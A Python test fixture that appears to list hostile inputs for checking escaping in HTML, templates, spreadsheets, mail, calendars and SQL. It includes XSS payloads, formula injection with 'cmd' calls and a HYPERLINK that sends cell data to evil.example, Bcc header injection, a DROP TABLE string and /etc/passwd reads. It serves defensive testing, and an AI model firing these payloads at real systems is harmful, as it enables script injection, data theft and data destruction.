"""Texts that some reader of text takes for more than text: browsers, databases, spreadsheets, mail, PDF, templates.

Whatever runs calls `hit`; whatever becomes an element is `x-hostile` or has `data-hostile`.
"""

CORPUS: dict[str, str] = {
    "element": "<img data-hostile src=x onerror=hit('element')>",
    "script": "<script data-hostile>hit('script')</script>",
    "attribute": "\" autofocus onfocus=hit('attr') data-hostile x=\"",
    "other quotes": "' autofocus onfocus=hit('attr') data-hostile x='",
    "no quotes": "x onmouseover=hit('bare') data-hostile",
    "end of json": "</script><svg data-hostile onload=hit('json')>",
    "comment in json": '<!--<script>--><x-hostile>{"a":1}',
    "end of a field": "</textarea></title></option><x-hostile onclick=hit(1)>",
    "half a tag": "<x-hostile <x-hostile/onclick=hit(2)//",
    "address": "javascript:hit('address')",
    "link": "<a data-hostile href=\"javascript:hit('link')\">x</a>",
    "link of markdown": "[x](javascript:hit('md)) ![y](//evil.example/z)",
    "template": "{{ request.user.password }}{% load static %}${7*7}",
    "format": "%(name)s %s %d {0.__class__.__mro__} %{x} %n",
    "style": "<style data-hostile>@import '//evil.example/x'</style>",
    "value of a style": "x;background:url(//evil.example/x);expression(1)",
    "svg": "<svg data-hostile><script>hit('svg')</script></svg>",
    "label of a figure": "<a data-hostile href='javascript:hit(3)'>x</a><b>y</b>",
    "htmx": "<x-hostile hx-get='/days/' hx-trigger='load'>",
    "sheet": '#import "@preview/x:1.0.0": * #read("/etc/passwd")',
    "marks of the sheet": '*bold* _i_ $x^2$ `raw` @ref <lab> #panic("x") \\',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "formula that calls": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "number with a sign": "-2+3+cmd|' /C calc'!A0",
    "lines of a mail": "x\r\nBcc: evil@evil.example\r\n\r\n<x-hostile>",
    "lines of a calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT;\\n,",
    "sql": "'); DROP TABLE diary_episode;-- \\",
    "entities": "&lt;x-hostile&gt;&#60;x-hostile&#62;&quot;",
    "another encoding": "+ADw-script+AD4-hit(4)+ADw-/script+AD4-",
    "right to left": "abc\u202egnp.exe\u202c \u2066\u2067 שלום مرحبا",
    "no width": "a\u200bb\u200cc\u200dd\u00ade\ufefff",
    "control": "a\x07b\x1b[31mc\x7fd\x85e",
    "combining": "Z\u0351\u0357\u0352a\u0334\u0337lgo 👩‍👩‍👧‍👦 🇩🇪 é",
    "long": "W" * 55,
    "path": "../../../etc/passwd",
}
# An address that the check of e-mail addresses lets through: the part before the @ may be quoted.
EMAIL = '"<img/data-hostile/src=x/onerror=hit(5)>"@example.org'
# All that can go wrong in an address at once.
IN_ADDRESS = "'\"></script></textarea><img data-hostile src=x onerror=hit(6)><x-hostile>{{7*7}}"
TEXTS = list(CORPUS.values())
